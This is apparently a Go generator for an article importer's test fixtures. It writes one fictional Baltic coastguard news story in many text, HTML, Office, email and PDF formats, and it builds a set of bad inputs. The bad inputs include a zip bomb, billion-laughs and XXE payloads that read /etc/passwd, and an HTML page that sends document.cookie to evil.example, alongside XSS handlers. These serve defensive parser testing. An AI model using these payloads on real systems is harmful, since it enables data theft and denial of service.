// Command gen writes the ingest test fixtures: one fictional article,
// written for Briefdesk, in every format and encoding the importer reads,
// and a corpus of bad inputs. Run from internal/ingest:
//
//	go run ./testdata/gen
//
// The fixtures are committed; rerun only to change them. The libreoffice.*
// fixtures come from a real word processor instead (LibreOffice 7.4):
//
//	soffice --headless --convert-to pdf testdata/good/article.docx   # and odt, rtf
//
// renamed to testdata/good/libreoffice.{pdf,odt,rtf}; libreoffice-2col.pdf
// is two-column.docx converted the same way, and libreoffice.docx comes from
// libreoffice.odt.
package main

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"log"
	"math/rand"
	"mime/quotedprintable"
	"os"
	"path/filepath"
	"strings"
	"time"

	"codeberg.org/go-pdf/fpdf"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"
)

// The article. Every good fixture carries exactly this body, so every
// format must give the same text hash.
const (
	title      = "Nordic and Baltic states agree to pool coastguard patrols"
	standfirst = "Ministers say joint patrols will start in the spring after a string of cable incidents"
	byline     = "Marta Lind and Jonas Keller"
)

var body = []string{
	"Eight Nordic and Baltic governments agreed on Tuesday to pool their coastguard patrols in the Baltic Sea, saying a string of damaged undersea cables had shown that no country could watch its waters alone.",
	"“We cannot guard every kilometre of cable on our own, and we should not pretend that we can,” Estonia’s interior minister, Kadri Tamm, told reporters after the meeting in Tallinn.",
	"Under the plan, patrol boats and aircraft from Denmark, Estonia, Finland, Iceland, Latvia, Lithuania, Norway and Sweden will share a single picture of shipping traffic from April, and crews will be able to board suspect vessels in each other’s waters with permission.",
	"The ministers set aside 140 million euros for the first two years – about half of it for drones and sensors – and asked the European Commission to match the sum.",
	"Officials said at least 11 cables and two pipelines had been damaged in the region since October 2023, in incidents that investigators have linked to ships dragging their anchors.",
	"Russia has denied any involvement. Its embassy in Tallinn called the plan “another step in the militarisation of the Baltic” in a statement on Tuesday evening.",
	"The first joint exercise is planned for May off the Finnish island of Hailuoto, the ministers said.",
}

var french = []string{
	"Les ministres de l’Intérieur des pays nordiques et baltes se sont mis d’accord mardi pour mettre en commun leurs patrouilles de garde-côtes en mer Baltique.",
	"Selon le communiqué publié à l’issue de la réunion, les navires et les avions des huit pays partageront dès le mois d’avril une image commune du trafic maritime.",
	"Les gouvernements ont réservé cent quarante millions d’euros pour les deux premières années et demandent à la Commission européenne de verser une somme équivalente.",
}

func main() {
	// Fixed dates keep regenerated PDFs byte-identical.
	fpdf.SetDefaultCreationDate(time.Date(2026, 3, 3, 9, 30, 0, 0, time.UTC))
	fpdf.SetDefaultModificationDate(time.Date(2026, 3, 3, 9, 30, 0, 0, time.UTC))
	fpdf.SetDefaultCatalogSort(true)
	must(os.MkdirAll("testdata/good", 0o755))
	must(os.MkdirAll("testdata/bad", 0o755))
	good := func(name string, b []byte) { must(os.WriteFile(filepath.Join("testdata/good", name), b, 0o644)) }
	bad := func(name string, b []byte) { must(os.WriteFile(filepath.Join("testdata/bad", name), b, 0o644)) }
	paras := strings.Join(body, "\n\n")

	// Plain text in the layouts desks receive.
	good("seed-style.txt", []byte("•"+standfirst+"\nBy "+byline+"\n"+strings.Join(body, "\n")+"\nCredit | AA\n"))
	good("bbc-style.txt", []byte(title+"\n\n"+paras+"\n"))
	good("wrapped.txt", []byte(title+"\n\nBy "+byline+"\nPublished: 3 March 2026\n\n"+wrapAll(body, 72, "\n\n")+"\n"))
	good("wrapped-noblank.txt", []byte(title+"\n"+wrapAll(body, 68, "\n")+"\n"))
	good("reuters.txt", []byte(title+"\n\nBy "+byline+"\n\nTALLINN, March 3 (Reuters) - "+paras+"\n\n(Reporting by Marta Lind and Jonas Keller; Editing by Peter Holm)\n"))
	good("cnn-style.txt", []byte("TALLINN, Estonia (CNN) -- "+strings.Join(body, " ")+"\n"))
	good("photo-caption.txt", []byte(title+"\n\nUpdated 3 March 2026 14:05 GMT\n\n"+body[0]+"\n\nPhoto: A coastguard vessel in the Gulf of Finland. (File)\n\n"+strings.Join(body[1:], "\n\n")+"\n\n© 2026 Briefdesk Test Wire. All rights reserved.\n"))
	good("crlf-nbsp.txt", []byte(strings.ReplaceAll(title+"\n\n"+strings.ReplaceAll(paras, "140 million", "140\u00a0million"), "\n", "\r\n")))
	good("utf8-bom.txt", append([]byte("\xEF\xBB\xBF"), title+"\n\n"+paras+"\n"...))
	u16le, _ := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().Bytes([]byte(title + "\n\n" + paras + "\n"))
	good("utf16le.txt", u16le)
	u16be, _ := unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder().Bytes([]byte(title + "\n\n" + paras + "\n"))
	good("utf16be.txt", u16be)
	cp, err := charmap.Windows1252.NewEncoder().Bytes([]byte(title + "\n\n" + paras + "\n"))
	must(err)
	good("cp1252.txt", cp)
	good("french.txt", []byte("Coopération en mer Baltique\n\n"+strings.Join(french, "\n\n")+"\n"))
	good("lying-extension.pdf", []byte(title+"\n\n"+paras+"\n"))

	good("article.md", []byte("---\ntitle: \""+title+"\"\nauthor: "+byline+"\ndate: 2026-03-03\n---\n\n"+
		"# "+title+"\n\n"+strings.Replace(strings.Replace(paras, "European Commission", "[European Commission](https://example.org/ec)", 1), "single picture", "*single picture*", 1)+"\n"))

	good("article.html", htmlPage("utf-8", body, true))
	latin, err := charmap.Windows1252.NewEncoder().Bytes(htmlPage("windows-1252", body, false))
	must(err)
	good("cp1252.html", latin)
	good("news-site.html", newsSite())
	good("saved-page.mhtml", mhtml(newsSite()))
	good("article.docx", docx(false, ""))
	good("two-column.docx", docx(true, ""))
	good("article.odt", odt(""))
	good("article.rtf", rtf())
	good("article.eml", eml())
	good("html-only.eml", emlHTML())
	good("attached.eml", emlAttached())
	good("article.pdf", pdfArticle(false, ""))
	good("two-column.pdf", pdfTwoColumn())
	good("unicode-font.pdf", pdfUnicodeFont())

	// Bad inputs.
	bad("empty.txt", nil)
	bad("whitespace.txt", []byte(" \n\t\r\n   \u00a0\n"))
	r := rand.New(rand.NewSource(1))
	junk := make([]byte, 4096)
	r.Read(junk)
	bad("junk.txt", junk)
	bad("junk.pdf", junk)
	bad("image.txt", pngBytes())
	bad("old-word.doc", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, junk[:500]...))
	bad("encrypted.pdf", pdfArticle(true, ""))
	bad("image-only.pdf", pdfImageOnly())
	full := pdfArticle(false, "")
	bad("truncated.pdf", full[:len(full)/2])
	d := docx(false, "")
	bad("corrupt.docx", append(append([]byte(nil), d[:len(d)/3]...), junk[:200]...))
	bad("zip-bomb.docx", docxBomb())
	bad("billion-laughs.docx", docx(false, billionLaughs))
	bad("external-entity.odt", odt(`<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`))
	bad("deep.rtf", []byte(`{\rtf1\ansi `+strings.Repeat("{", 100000)+"text"+strings.Repeat("}", 100000)+"}"))
	bad("spreadsheet.docx", zipOf(map[string]string{"xl/workbook.xml": "<workbook/>", "[Content_Types].xml": "<Types/>"}))
	bad("scripts.html", scriptPage())
	bad("truncated.html", truncatedPage())
	bad("no-text.html", []byte(`<!doctype html><html><head><title>App</title><script>render()</script></head><body><div id="root"></div><noscript>Enable JavaScript</noscript></body></html>`))
	bad("attachment-only.eml", []byte("From: a@example.org\r\nTo: b@example.org\r\nSubject: scan\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n--XX\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=scan.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--XX--\r\n"))
}

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

// wrap hard-wraps a paragraph at width runes, as an editor would.
func wrap(p string, width int) string {
	var lines []string
	cur := ""
	for _, w := range strings.Fields(p) {
		if cur != "" && len([]rune(cur))+1+len([]rune(w)) > width {
			lines = append(lines, cur)
			cur = w
			continue
		}
		if cur != "" {
			cur += " "
		}
		cur += w
	}
	return strings.Join(append(lines, cur), "\n")
}

func wrapAll(ps []string, width int, sep string) string {
	var out []string
	for _, p := range ps {
		out = append(out, wrap(p, width))
	}
	return strings.Join(out, sep)
}

func htmlPage(charset string, ps []string, clutter bool) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, `<!DOCTYPE html>
<html lang="en"><head><meta charset="%s">
<title>%s | Briefdesk Test Wire</title>
<meta property="og:title" content="%s">
<meta property="og:site_name" content="Briefdesk Test Wire">
<meta name="author" content="%s">
<meta property="article:published_time" content="2026-03-03T09:30:00Z">
<meta name="description" content="%s">
<script>window.tracker = function(){ document.cookie = "x=1"; };</script>
<style>body{font-family:serif}</style>
</head><body onload="tracker()">
`, charset, title, title, byline, standfirst)
	if clutter {
		b.WriteString(`<div class="cookie-banner" id="cookie-consent"><p>We use cookies to improve your experience. <a href="#" onclick="accept()">Accept all cookies</a></p></div>
<header class="site-header"><nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/business">Business</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
`)
	}
	fmt.Fprintf(&b, "<main><article>\n<h1>%s</h1>\n<p class=\"byline\">By %s</p>\n", title, byline)
	for i, p := range ps {
		fmt.Fprintf(&b, "<p>%s</p>\n", p)
		if i == 2 && clutter {
			b.WriteString(`<figure><img src="boat.jpg" alt="boat"><figcaption>A coastguard vessel in the Gulf of Finland.</figcaption></figure>` + "\n")
			b.WriteString(`<script>alert("inline script inside the article")</script>` + "\n")
		}
	}
	b.WriteString("</article></main>\n")
	if clutter {
		b.WriteString(`<aside class="sidebar"><h3>Most read</h3><ul><li><a href="/a">Markets slide as oil jumps</a></li><li><a href="/b">Storm closes ports along the coast</a></li></ul></aside>
<section id="comments" class="comments"><h3>Comments</h3><div class="comment"><p>Great article, thanks!</p></div></section>
<footer><p>© 2026 Briefdesk Test Wire. Terms. Privacy.</p></footer>
`)
	}
	b.WriteString("</body></html>\n")
	return []byte(b.String())
}

// newsSite is laid out like a real news site: consent dialog, navigation,
// JSON-LD, share buttons, a figure, a related-links box and a newsletter
// form inside the article, topics, comments, most-read and a footer.
func newsSite() []byte {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html>
<html lang="en-GB"><head><meta charset="utf-8">
<title>` + title + ` - Briefdesk News</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta property="og:title" content="` + title + `">
<meta property="og:type" content="article">
<meta property="og:site_name" content="Briefdesk News">
<meta property="og:description" content="` + standfirst + `">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"` + title + `","datePublished":"2026-03-03T09:30:00+00:00","author":[{"@type":"Person","name":"Marta Lind"},{"@type":"Person","name":"Jonas Keller"}],"publisher":{"@type":"Organization","name":"Briefdesk News"}}</script>
<script async src="https://ads.example/tag.js"></script>
<link rel="stylesheet" href="/main.css">
</head><body>
<a class="skip-link" href="#main">Skip to content</a>
<div role="dialog" class="consent-banner" aria-label="Cookie consent"><h2>Your privacy</h2><p>We and our 842 partners use cookies and similar technologies to personalise content and ads, and to analyse our traffic.</p><button>Accept all</button><button>Manage preferences</button></div>
<header class="masthead"><a href="/" class="logo">Briefdesk News</a>
<nav class="primary-nav"><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li><li><a href="/world">World</a></li><li><a href="/business">Business</a></li><li><a href="/climate">Climate</a></li><li><a href="/video">Video</a></li></ul></nav>
<form role="search" action="/search"><input type="search" name="q" placeholder="Search Briefdesk News"><button>Search</button></form></header>
<main id="main"><div class="page-layout">
<nav class="breadcrumbs"><a href="/news">News</a> › <a href="/world">World</a> › <a href="/world/europe">Europe</a></nav>
<article class="story">
<header class="story-header"><h1 class="story-headline">` + title + `</h1>
<p class="story-standfirst">` + standfirst + `</p>
<div class="story-meta"><span class="byline">By <a href="/authors/marta-lind">Marta Lind</a> and <a href="/authors/jonas-keller">Jonas Keller</a></span>
<time datetime="2026-03-03T09:30:00Z">3 March 2026</time></div>
<ul class="share-tools"><li><a href="https://social.example/share">Share on Social</a></li><li><a href="mailto:?subject=patrols">Email</a></li><li><button>Copy link</button></li></ul>
</header>
<figure class="lead-image"><img src="/img/patrol.jpg" alt="A coastguard boat at sea" width="976" height="549"><figcaption>A coastguard vessel in the Gulf of Finland. Photo: Jan Berg</figcaption></figure>
<div class="story-body">
`)
	for i, p := range body {
		b.WriteString("<p>" + p + "</p>\n")
		if i == 1 {
			b.WriteString(`<aside class="related-links"><h2>Read more</h2><ul><li><a href="/a">Cable damage: what we know</a></li><li><a href="/b">Who patrols the Baltic?</a></li></ul></aside>` + "\n")
		}
		if i == 3 {
			b.WriteString(`<div class="newsletter-signup"><h3>Get our morning briefing</h3><form action="/subscribe"><input type="email" placeholder="Your email"><button>Sign up</button></form></div>` + "\n")
		}
	}
	b.WriteString(`</div>
<section class="topics"><h2>Related topics</h2><ul><li><a href="/t/baltic">Baltic Sea</a></li><li><a href="/t/estonia">Estonia</a></li></ul></section>
</article>
<aside class="most-read"><h2>Most read</h2><ol><li><a href="/1">Markets slide as oil jumps to a six-month high</a></li><li><a href="/2">Storm closes ports along the North Sea coast</a></li><li><a href="/3">Election result delayed after recount request</a></li></ol></aside>
</div>
<section class="comments" id="comments"><h2>Comments (12)</h2><div class="comment"><p class="comment-author">reader42</p><p>Long overdue. Why did this take so long?</p></div><div class="comment"><p class="comment-author">nordic_watcher</p><p>Drones are a good start, but crews matter more.</p></div></section>
</main>
<footer class="site-footer"><ul><li><a href="/terms">Terms of Use</a></li><li><a href="/privacy">Privacy Policy</a></li><li><a href="/cookies">Cookies</a></li></ul><p>© 2026 Briefdesk News. Not responsible for the content of external sites.</p></footer>
<script>window.dataLayer=window.dataLayer||[];</script>
</body></html>
`)
	return []byte(b.String())
}

// mhtml wraps a page the way Chrome's "Save as single file" does.
func mhtml(page []byte) []byte {
	var qp bytes.Buffer
	w := quotedprintable.NewWriter(&qp)
	w.Write(page)
	w.Close()
	const b = "----MultipartBoundary--Briefdesk----"
	return []byte("From: <Saved by Blink>\r\nSnapshot-Content-Location: https://news.example/world/patrols\r\nSubject: " + title + " - Briefdesk News\r\n" +
		"Date: Tue, 3 Mar 2026 10:02:11 -0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\";\r\n\tboundary=\"" + b + "\"\r\n\r\n\r\n" +
		"--" + b + "\r\nContent-Type: text/html\r\nContent-ID: <frame-1@mhtml.blink>\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://news.example/world/patrols\r\n\r\n" +
		qp.String() + "\r\n" +
		"--" + b + "\r\nContent-Type: text/css\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://news.example/main.css\r\n\r\nbody { font-family: serif; }\r\n" +
		"--" + b + "--\r\n")
}

func scriptPage() []byte {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>` + title + `</title>
<script src="https://evil.example/x.js"></script><script>fetch("https://evil.example/steal?c="+document.cookie)</script></head>
<body><article><h1 onmouseover="alert(1)">` + title + `</h1>`)
	for _, p := range body {
		b.WriteString(`<p onclick="alert('clicked')">` + p + `</p><script>document.write("INJECTED")</script>`)
	}
	b.WriteString(`<a href="javascript:alert(2)">more</a><iframe src="https://evil.example/frame"></iframe><img src=x onerror="alert(3)">
<svg><script>alert(4)</script></svg></article></body></html>`)
	return []byte(b.String())
}

func truncatedPage() []byte {
	full := string(htmlPage("utf-8", body, false))
	// Cut in the middle of the fifth paragraph's markup.
	k := strings.Index(full, body[4]) + 40
	return []byte(full[:k])
}

func zipOf(files map[string]string) []byte {
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	for _, name := range sortedKeys(files) {
		w, err := z.Create(name)
		must(err)
		w.Write([]byte(files[name]))
	}
	must(z.Close())
	return buf.Bytes()
}

func sortedKeys(m map[string]string) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	for i := range ks {
		for j := i + 1; j < len(ks); j++ {
			if ks[j] < ks[i] {
				ks[i], ks[j] = ks[j], ks[i]
			}
		}
	}
	return ks
}

func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}

const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`

const billionLaughs = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>`

// docx builds a Word document: Title and Subtitle styles, a byline
// paragraph, the body split over runs, a deleted revision and a field code
// that must not show, and a tab.
func docx(twoColumns bool, doctype string) []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + doctype)
	b.WriteString(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`)
	p := func(style, text string) {
		b.WriteString(`<w:p>`)
		if style != "" {
			b.WriteString(`<w:pPr><w:pStyle w:val="` + style + `"/></w:pPr>`)
		}
		// Split into two runs mid-sentence, as Word does after edits.
		k := strings.Index(text, " ")
		if k < 0 {
			k = len(text)
		}
		b.WriteString(`<w:r><w:t xml:space="preserve">` + xmlEscape(text[:k]) + `</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">` + xmlEscape(text[k:]) + `</w:t></w:r>`)
		b.WriteString(`</w:p>`)
	}
	p("Title", title)
	p("Subtitle", standfirst)
	p("", "By "+byline)
	if doctype != "" {
		b.WriteString(`<w:p><w:r><w:t>&lol5;</w:t></w:r></w:p>`)
	}
	for i, para := range body {
		if i == 1 {
			b.WriteString(`<w:p><w:del w:id="1" w:author="Editor"><w:r><w:delText>This sentence was deleted in review.</w:delText></w:r></w:del><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://example.org" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
		}
		if i == 4 && twoColumns {
			b.WriteString(`<w:p><w:r><w:br w:type="column"/></w:r></w:p>`)
		}
		p("", para)
	}
	b.WriteString(`<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Hidden note to the editor.</w:t></w:r></w:p>`)
	if twoColumns {
		b.WriteString(`<w:sectPr><w:cols w:num="2" w:space="720"/></w:sectPr></w:body></w:document>`)
	} else {
		b.WriteString(`<w:sectPr/></w:body></w:document>`)
	}
	core := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title></dc:title><dc:creator>Desk Officer</dc:creator></cp:coreProperties>`
	return zipOf(map[string]string{"[Content_Types].xml": contentTypes, "_rels/.rels": rels, "word/document.xml": b.String(), "docProps/core.xml": core})
}

// docxBomb is a Word file whose document.xml inflates to 200 MB.
func docxBomb() []byte {
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	w, err := z.Create("word/document.xml")
	must(err)
	w.Write([]byte(`<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>`))
	chunk := bytes.Repeat([]byte("a"), 1<<20)
	for i := 0; i < 200; i++ {
		w.Write(chunk)
	}
	w.Write([]byte(`</w:t></w:r></w:p></w:body></w:document>`))
	must(z.Close())
	return buf.Bytes()
}

// odt builds an OpenDocument text with automatic styles derived from
// Title and Subtitle, a note and spaces written as text:s.
func odt(doctype string) []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + doctype)
	b.WriteString(`<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">`)
	b.WriteString(`<office:automatic-styles><style:style style:name="P1" style:family="paragraph" style:parent-style-name="Title"/><style:style style:name="P2" style:family="paragraph" style:parent-style-name="Subtitle"/></office:automatic-styles>`)
	b.WriteString(`<office:body><office:text>`)
	b.WriteString(`<text:p text:style-name="P1">` + xmlEscape(title) + `</text:p>`)
	b.WriteString(`<text:p text:style-name="P2">` + xmlEscape(standfirst) + `</text:p>`)
	b.WriteString(`<text:p text:style-name="Standard">By ` + xmlEscape(byline) + `</text:p>`)
	if doctype != "" {
		b.WriteString(`<text:p>&xxe;</text:p>`)
	}
	for i, p := range body {
		p = xmlEscape(p)
		if i == 0 {
			p = strings.Replace(p, "agreed on", `agreed<text:s text:c="1"/>on`, 1) + `<text:note text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>Footnote that is not body text.</text:p></text:note-body></text:note>`
			p = strings.Replace(p, "Eight Nordic and Baltic", "Eight Nordic and ", 1)
			p = strings.Replace(p, "Eight Nordic and ", `Eight Nordic and <text:span text:style-name="T1">Baltic</text:span>`, 1)
		}
		b.WriteString(`<text:p text:style-name="Text_20_body">` + p + `</text:p>`)
	}
	b.WriteString(`</office:text></office:body></office:document-content>`)
	return zipOf(map[string]string{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": b.String(),
		"META-INF/manifest.xml": `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`})
}

// rtf writes the article as RTF the way word processors do: cp1252 bytes
// as \'hh, other characters as \uN with a fallback, a font table, an info
// group with the title, and a running header that is not body text.
func rtf() []byte {
	esc := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			switch {
			case r == '\\' || r == '{' || r == '}':
				b.WriteString(`\` + string(r))
			case r < 0x80:
				b.WriteRune(r)
			default:
				if c, ok := charmap.Windows1252.EncodeRune(r); ok && r != '–' {
					fmt.Fprintf(&b, `\'%02x`, c)
				} else {
					fmt.Fprintf(&b, `\u%d?`, r)
				}
			}
		}
		return b.String()
	}
	var b strings.Builder
	b.WriteString(`{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\froman\fcharset0 Times New Roman;}{\f1\fswiss Arial;}}{\colortbl;\red0\green0\blue0;}` + "\n")
	b.WriteString(`{\*\generator Briefdesk test generator;}{\info{\title ` + esc(title) + `}{\author Desk Officer}}` + "\n")
	b.WriteString(`{\header \pard\plain Briefdesk Test Wire \endash  internal\par}` + "\n")
	b.WriteString(`\pard\plain\f1\fs36\b ` + esc(title) + `\b0\par` + "\n")
	b.WriteString(`\pard\plain\f0\fs24 By ` + esc(byline) + `\par` + "\n")
	for _, p := range body {
		b.WriteString(`\pard\plain\f0\fs24 ` + esc(p) + "\\par\n")
	}
	b.WriteString("}\n")
	return []byte(b.String())
}

// eml is a forwarded newsletter: multipart/alternative, quoted-printable
// text with a Gmail forward wrapper, base64 HTML, an encoded subject.
func eml() []byte {
	var qp bytes.Buffer
	w := quotedprintable.NewWriter(&qp)
	w.Write([]byte("FYI, see below for the patrol story.\n\n---------- Forwarded message ---------\nFrom: Wire Desk <desk@example.org>\nDate: Tue, 3 Mar 2026 at 10:15\nSubject: " + title + "\nTo: <officer@example.org>\n\n" +
		"By " + byline + "\n\n" + wrapAll(body, 76, "\n\n") + "\n\n-- \nWire Desk\nSent from my phone\n"))
	w.Close()
	html := "<html><body><p>FYI</p><blockquote>" + strings.Join(body, "<br><br>") + "</blockquote></body></html>"
	return []byte("From: Colleague <colleague@example.org>\r\nTo: officer@example.org\r\nSubject: =?UTF-8?Q?Fwd:_Nordic_and_Baltic_states_agree_to_pool_coastguard_patrols?=\r\n" +
		"Date: Tue, 03 Mar 2026 11:00:00 +0000\r\nMessage-ID: <1@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + qp.String() + "\r\n" +
		"--b1\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(html) + "\r\n--b1--\r\n")
}

// emlHTML has only an HTML part in ISO-8859-1 (as Windows-1252 bytes).
func emlHTML() []byte {
	html := "<html><head><style>p{margin:0}</style></head><body><h1>" + title + "</h1>"
	for _, p := range body {
		html += "<p>" + p + "</p>"
	}
	html += "</body></html>"
	latin, err := charmap.Windows1252.NewEncoder().Bytes([]byte(html))
	must(err)
	return []byte("From: desk@example.org\r\nTo: officer@example.org\r\nSubject: " + title + "\r\nDate: Tue, 03 Mar 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=windows-1252\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(string(latin)) + "\r\n")
}

// emlAttached forwards the article as an attached message/rfc822.
func emlAttached() []byte {
	inner := "From: desk@example.org\r\nSubject: " + title + "\r\nDate: Tue, 03 Mar 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
		strings.ReplaceAll(strings.Join(body, "\n\n"), "\n", "\r\n") + "\r\n"
	return []byte("From: colleague@example.org\r\nTo: officer@example.org\r\nSubject: Fw: story\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n" +
		"--zz\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee attached.\r\n--zz\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=story.eml\r\n\r\n" + inner + "--zz--\r\n")
}

func b64(s string) string {
	enc := base64.StdEncoding.EncodeToString([]byte(s))
	var lines []string
	for len(enc) > 76 {
		lines = append(lines, enc[:76])
		enc = enc[76:]
	}
	return strings.Join(append(lines, enc), "\r\n")
}

// pdfArticle lays the article out over two pages with a running header, a
// page-number footer, a large title and one word hyphenated at a line end.
func pdfArticle(encrypt bool, _ string) []byte {
	f := fpdf.New("P", "mm", "A5", "")
	tr := f.UnicodeTranslatorFromDescriptor("")
	f.SetTitle(title, true)
	f.SetAuthor(byline, true)
	if encrypt {
		f.SetProtection(fpdf.CnProtectPrint, "secret", "owner")
	}
	f.SetHeaderFunc(func() {
		f.SetFont("Helvetica", "", 8)
		f.Text(15, 10, "Briefdesk Test Wire - Security Desk")
	})
	f.SetFooterFunc(func() {
		f.SetFont("Helvetica", "", 8)
		f.Text(70, 200, fmt.Sprintf("Page %d", f.PageNo()))
	})
	f.SetAutoPageBreak(false, 0)
	f.AddPage()
	f.SetFont("Helvetica", "B", 16)
	y := 22.0
	for _, l := range split(f, tr, title, 118) {
		f.Text(15, y, tr(l))
		y += 7
	}
	y += 3
	f.SetFont("Helvetica", "", 10)
	f.Text(15, y, tr("By "+byline))
	y += 9
	for i, p := range body {
		lines := split(f, tr, p, 118)
		if i == 2 {
			// Hyphenate "permission" across two lines by hand.
			lines = hyphenate(f, tr, p, "permission", 118)
		}
		for _, l := range lines {
			if y > 120 {
				f.AddPage()
				f.SetFont("Helvetica", "", 10)
				y = 20
			}
			f.Text(15, y, tr(l))
			y += 5
		}
		y += 4
	}
	var buf bytes.Buffer
	must(f.Output(&buf))
	return buf.Bytes()
}

// hyphenate wraps p so that word is split "permis-" / "sion" at a line end.
func hyphenate(f *fpdf.Fpdf, tr func(string) string, p, word string, width float64) []string {
	k := strings.Index(p, word)
	before := split(f, tr, p[:k]+word[:6]+"-", width)
	rest := split(f, tr, word[6:]+p[k+len(word):], width)
	return append(before, rest...)
}

// split wraps UTF-8 text to width by the widths of its cp1252 glyphs.
func split(f *fpdf.Fpdf, tr func(string) string, p string, width float64) []string {
	var lines []string
	cur := ""
	for _, w := range strings.Fields(p) {
		next := w
		if cur != "" {
			next = cur + " " + w
		}
		if cur != "" && f.GetStringWidth(tr(next)) > width {
			lines = append(lines, cur)
			cur = w
			continue
		}
		cur = next
	}
	return append(lines, cur)
}

// pdfTwoColumn sets the body in two columns on a landscape page.
func pdfTwoColumn() []byte {
	f := fpdf.New("L", "mm", "A4", "")
	tr := f.UnicodeTranslatorFromDescriptor("")
	f.SetAutoPageBreak(false, 0)
	f.AddPage()
	f.SetFont("Helvetica", "B", 18)
	f.Text(15, 20, tr(title))
	f.SetFont("Helvetica", "", 10)
	var lines []string
	for i, p := range body {
		lines = append(lines, split(f, tr, p, 110)...)
		if i < len(body)-1 {
			lines = append(lines, "")
		}
	}
	half := (len(lines) + 1) / 2
	for half < len(lines) && lines[half-1] != "" {
		half++ // break the column between paragraphs
	}
	for i, l := range lines {
		x, y := 15.0, 32+float64(i)*5
		if i >= half {
			x, y = 160, 32+float64(i-half)*5
		}
		f.Text(x, y, tr(l))
	}
